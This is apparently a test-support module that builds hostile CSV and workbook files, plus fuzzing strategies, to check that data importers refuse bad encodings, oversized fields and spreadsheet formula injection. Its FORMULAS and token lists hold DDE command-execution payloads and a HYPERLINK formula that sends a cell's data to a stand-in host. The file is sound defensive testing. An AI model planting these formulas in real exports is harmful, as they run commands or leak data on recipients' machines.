"""Hostile files for the importers' proof tests: one hand-made file per named trick, built from a
valid table each importer reads, and the hypothesis strategies that fuzz the rest.

Each trick is aimed at one cell of the table (``Table.row`` under the header, in a free-text
column or in a column with a fixed form), so each refusal is expected at a known line and
column; tricks a file as a whole plays (a workbook saved as .csv) expect no line.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from dataclasses import dataclass, replace

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from lantern.audit.models import AuditEvent
from lantern.insights.models import PublishedFigure, PublishedImport
from lantern.synth.nrm_statistics import COLUMNS, LONGITUDINAL_COLUMNS
from tests.figures import count
from tests.insights.published_data import police_table

# The hostile-file tests' hypothesis settings: the same cases every CI run, no example database,
# no deadline (a file's parse time varies with the machine, not with the code).
FUZZ = settings(derandomize=True, deadline=None, database=None, max_examples=100,
                suppress_health_check=[HealthCheck.too_slow])

FIGURE = "hostile files fuzzed"
FORMULAS = ("=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
            "\t=1+1", "\r=1+1")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
FIELD_LIMIT_TEXT = "longer than 131,072 characters"


def fed(n: int = 1) -> None:
    """Count files handed to an importer, for the closing note."""
    count(FIGURE, n)


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet opening this cell would run it: a formula start that is no plain number."""
    return cell.startswith(TRIGGERS) and not _PLAIN_NUMBER.fullmatch(cell)


@dataclass(frozen=True)
class Table:
    """A table an importer takes, and the cells the tricks aim at."""

    name: str
    header: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...]
    text_column: str  # free text: any UTF-8 is welcome
    strict_column: str  # a fixed form, which ``refused_value`` is not
    refused_value: str
    refused_says: str  # what the importer's message says of ``refused_value``
    row: int = 1  # the row aimed at, 0 the first under the header

    @property
    def line(self) -> int:
        return self.row + 2

    def at(self, column: str, line: int | None = None) -> str:
        return f"line {self.line if line is None else line}, column {column!r}"

    def with_cell(self, column: str, value: str) -> list[list[str]]:
        rows = [list(r) for r in self.rows]
        rows[self.row][self.header.index(column)] = value
        return rows

    def cell(self, column: str) -> str:
        return self.rows[self.row][self.header.index(column)]

    def text(self, rows: Sequence[Sequence[str]] | None = None, newline: str = "\n",
             quoting: int = csv.QUOTE_MINIMAL) -> str:
        # csv quotes a value holding a line break only when the break is in its line terminator:
        # a value with "\r" in a "\n" file is written unquoted (one trick among others below).
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator=newline, quoting=quoting)
        writer.writerow(self.header)
        writer.writerows(self.rows if rows is None else rows)
        return buffer.getvalue()

    def data(self, rows: Sequence[Sequence[str]] | None = None, newline: str = "\n",
             quoting: int = csv.QUOTE_MINIMAL) -> bytes:
        return self.text(rows, newline, quoting).encode("utf-8")


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its bytes, where the refusal must point (None: the whole file) and a phrase
    it must hold."""

    trick: str
    data: bytes
    where: str | None
    says: str

    def __str__(self) -> str:
        return self.trick


def xlsx_bytes(header: Sequence[str], rows: Sequence[Sequence[object]]) -> bytes:
    """A real workbook of these rows, every text cell stored as text (even one beginning with "=")."""
    book = Workbook()
    sheet = book.active
    for r, values in enumerate([header, *rows], start=1):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(row=r, column=c, value=value)
            if isinstance(value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _unclosed_quote(t: Table) -> bytes:
    """The aimed cell opens a quote that never closes, and the file runs on past csv's field limit."""
    lines = t.text().splitlines()
    cells = next(csv.reader([lines[t.line - 1]]))
    at = t.header.index(t.text_column)
    lines[t.line - 1] = ",".join([*cells[:at], '"' + cells[at], *cells[at + 1:]])
    padding = [lines[-1]] * (140_000 // len(lines[-1]) + 1)
    return ("\n".join(lines) + "\n" + "\n".join(padding) + "\n").encode()


def hostile_files(t: Table) -> list[Hostile]:
    """Every trick a CSV file can play on an importer, aimed at ``t``'s cells."""
    text, mixed = t.text(), t.text(t.with_cell(t.strict_column, t.refused_value))
    value = t.cell(t.text_column)
    whole_line = "line 1, column 1"
    return [
        Hostile("UTF-16 with a byte-order mark", text.encode("utf-16"), whole_line, "UTF-16"),
        Hostile("UTF-16 big-endian with a byte-order mark", ("\ufeff" + text).encode("utf-16-be"),
                whole_line, "UTF-16"),
        Hostile("UTF-16 without a byte-order mark", text.encode("utf-16-le"), whole_line, "NUL byte"),
        Hostile("UTF-32", text.encode("utf-32"), whole_line, "UTF-32"),
        Hostile("a Latin-1 accent", t.text(t.with_cell(t.text_column, value + "\xe9")).encode("latin-1"),
                t.at(t.text_column), "0xE9 is not UTF-8"),
        Hostile("Windows-1252 curly quotes",
                t.text(t.with_cell(t.text_column, f"\u201c{value}\u201d")).encode("cp1252"),
                t.at(t.text_column), "0x93 is not UTF-8"),
        Hostile("a NUL byte inside a value",
                t.data(t.with_cell(t.text_column, f"{value[:1]}\x00{value[1:]}")), t.at(t.text_column),
                "NUL byte"),
        Hostile("a value of 200,000 characters", t.data(t.with_cell(t.text_column, "x" * 200_000)),
                t.at(t.text_column), FIELD_LIMIT_TEXT),
        Hostile("a quote opened and never closed", _unclosed_quote(t), t.at(t.text_column), FIELD_LIMIT_TEXT),
        Hostile("bare carriage returns, a bad value on the aimed line",
                t.data(t.with_cell(t.strict_column, t.refused_value), newline="\r"),
                t.at(t.strict_column), t.refused_says),
        Hostile("mixed line endings, a bad value on the aimed line",
                "".join(line + ("\r", "\r\n", "\n")[n % 3] for n, line in
                        enumerate(mixed.splitlines())).encode(), t.at(t.strict_column), t.refused_says),
        Hostile("an XLSX workbook saved as .csv", xlsx_bytes(t.header, t.rows), None, "save it as CSV UTF-8"),
        Hostile("an old XLS workbook saved as .csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), None,
                "old Excel workbook (XLS)"),
    ]


def formula_files(t: Table) -> list[Hostile]:
    """The aimed free-text cell as each formula an attacker would plant (refused by the tables' importers)."""
    return [Hostile(f"the formula {formula!r}", t.data(t.with_cell(t.text_column, formula), "\r\n"),
                    t.at(t.text_column), "formula") for formula in FORMULAS]


def accepted_files(t: Table) -> list[tuple[str, bytes]]:
    """Harmless differences in how a file was saved, each of which must read as the plain file."""
    text = t.text()
    return [("a UTF-8 byte-order mark", b"\xef\xbb\xbf" + text.encode()),
            ("two UTF-8 byte-order marks", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode()),
            ("bare carriage returns", t.data(newline="\r")),
            ("Windows line endings", t.data(newline="\r\n")),
            ("no line end after the last line", text.rstrip("\n").encode())]


# --- the valid tables the tricks are played on ----------------------------------------------------

LINK = Table("people.csv", ("id", "First", "Last", "Born", "Notes"),
             (("1", "Arben", "Hoxha", "1985-03-04", "seen in Leeds"),
              ("2", "Maria", "Nowak", "1990-01-02", ""),
              ("3", "Linh", "Nguyen", "2001-09-12", "hand car wash")),
             text_column="First", strict_column="Born", refused_value="31/31/1990",
             refused_says="is not a date")
LINK_MAP = {"First": "given_name", "Last": "surname", "Born": "date_of_birth"}
MAP_ARGS = [arg for column, target in LINK_MAP.items() for arg in ("--map", f"{column}={target}")]
_POLICE_FILE = "nrm_referrals_police_2023_q3.csv"
POLICE = Table(_POLICE_FILE, COLUMNS,
               tuple(tuple(r) for r in csv.reader(police_table(quarter=3)[_POLICE_FILE].splitlines()[1:])),
               text_column="Nationality", strict_column="People", refused_value="n/a",
               refused_says="'n/a' is not a count")
LONGITUDINAL = Table("nrm_referrals_longitudinal.csv", LONGITUDINAL_COLUMNS,
                     (("2022.0", "Q1", "Adult (18 or over)", "Total", "5.0"),
                      ("2022.0", "Q1", "Child (17 or under)", "Total", "3.0"),
                      ("2022.0", "Q1", "Adult (18 or over)", "UK", "5.0")),
                     text_column="Location of exploitation", strict_column="NRM referrals",
                     refused_value="n/a", refused_says="'n/a' is not a count")


def published_held() -> tuple[int, int, int]:
    """The rows a published-statistics import writes: figures, imports, audit events."""
    return PublishedFigure.objects.count(), PublishedImport.objects.count(), AuditEvent.objects.count()


# --- hypothesis strategies ----------------------------------------------------------------------

_TOKENS = (b"\x00", b"\r", b"\n", b"\r\n", b'"', b",", b"\xff", b"\xfe", b"\xe9", b"\x93", b"\xef\xbb\xbf",
           b"\xc3", b"PK\x03\x04", b"=cmd|' /C calc'!A0", b"+", b"-", b"@", "\u2028".encode())


@st.composite
def mutated(draw: st.DrawFn, data: bytes) -> bytes:
    """``data`` with a few bytes inserted, overwritten or cut, and perhaps re-encoded or truncated."""
    out = bytearray(data)
    for _ in range(draw(st.integers(1, 4))):
        where = draw(st.integers(0, len(out)))
        piece = draw(st.one_of(st.sampled_from(_TOKENS), st.binary(min_size=1, max_size=6)))
        action = draw(st.sampled_from(("insert", "overwrite", "cut")))
        if action == "insert":
            out[where:where] = piece
        elif action == "overwrite":
            out[where:where + len(piece)] = piece
        else:
            del out[where:where + len(piece)]
    result = bytes(out)
    if draw(st.booleans()):
        result = result[: draw(st.integers(0, len(result)))]
    encoding = draw(st.sampled_from((None, None, None, "utf-16", "utf-16-le", "latin-1", "cp1252")))
    if encoding is not None:
        result = result.decode("utf-8", "replace").encode(encoding, "replace")
    return result


def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Cell text an attacker or a broken export might write: formulas, quotes, commas, line breaks,
    control characters, NULs, byte-order marks and any other Unicode."""
    tricky = st.sampled_from(['"', ",", "\r", "\n", "\r\n", "\x00", "\ufeff", "\ufffe", "\uffff", "\u2028",
                              " ", "\t", "'", ";"])
    body = st.lists(st.one_of(tricky, st.characters(codec="utf-8")), max_size=max_size).map("".join)
    return st.one_of(body, st.builds(lambda start, rest: start + rest,
                                     st.sampled_from([*TRIGGERS, *FORMULAS]), body))


def aimed(t: Table, column: str) -> Table:
    """``t`` aimed at another column."""
    return replace(t, text_column=column)
